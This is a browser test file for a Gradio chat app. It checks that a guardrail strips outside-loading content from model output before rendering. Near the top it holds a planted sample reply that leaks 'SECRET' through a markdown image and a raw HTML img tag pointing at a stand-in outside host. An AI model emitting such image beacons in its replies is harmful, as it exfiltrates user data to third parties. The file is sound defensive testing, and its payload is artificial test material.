"""What Gradio's Chatbot really renders in Chromium: planted model output (image, links, bare
URL, raw HTML) loads an outside URL when shown raw, and nothing when passed through
guardrails.check_output. A test-only Blocks shows both (the chat tabs call the same function)."""

from __future__ import annotations

import pytest

from tests.browser.conftest import ARTIFACTS

pytestmark = pytest.mark.browser

OUTSIDE = "http://127.0.0.2:9"  # not this server: counts as an outside host, and nothing listens
PLANTED = (
    f"Sure! ![pixel]({OUTSIDE}/p.png?d=SECRET) see [the docs]({OUTSIDE}/docs) "
    f"or {OUTSIDE}/bare and <img src='{OUTSIDE}/raw.png?d=SECRET'> done."
)


@pytest.fixture
def chat_demo():
    import gradio as gr

    from guardrails import Guardrails

    guard = Guardrails()

    def show(mode: str) -> list[dict]:
        text = PLANTED if mode == "raw" else guard.check_output(PLANTED).text
        return [{"role": "user", "content": "hello"}, {"role": "assistant", "content": text}]

    with gr.Blocks() as demo:
        mode = gr.Radio(["raw", "guarded"], value="guarded", label="mode")
        bot = gr.Chatbot(label="bot")
        gr.Button("show").click(show, mode, bot, api_name="show")
    demo.launch(prevent_thread_lock=True, quiet=True, server_name="127.0.0.1")
    try:
        yield demo
    finally:
        demo.close()


def _render(page, url: str, mode: str) -> dict:
    page.goto(url)
    page.get_by_label(mode).check()
    page.get_by_role("button", name="show").click()
    page.get_by_text("done").last.wait_for(timeout=30_000)
    # every image in the page has been fetched or has failed (img.complete): any outside
    # request the rendering made has been recorded by then
    page.wait_for_function("() => [...document.images].every(i => i.complete)", timeout=30_000)
    bot = page.locator(".bubble-wrap, [data-testid='bot']").first
    return {
        "imgs": bot.locator(f"img[src^='{OUTSIDE}']").count(),
        "links": bot.locator(f"a[href^='{OUTSIDE}']").count(),
        "requests": [u for u in page.outside_requests if u.startswith(OUTSIDE)],
    }


def test_planted_output_renders_nothing_external_after_check_output(chat_demo, page):
    raw = _render(page, chat_demo.local_url, "raw")
    page.screenshot(path=str(ARTIFACTS / "security-render-raw.png"))
    # Positive control: unfiltered, the Chatbot renders the image and links and the browser fetches.
    assert raw["imgs"] >= 1 and raw["links"] >= 1 and raw["requests"], raw
    page.outside_requests.clear()
    guarded = _render(page, chat_demo.local_url, "guarded")
    page.screenshot(path=str(ARTIFACTS / "security-render-guarded.png"))
    assert guarded == {"imgs": 0, "links": 0, "requests": []}, guarded
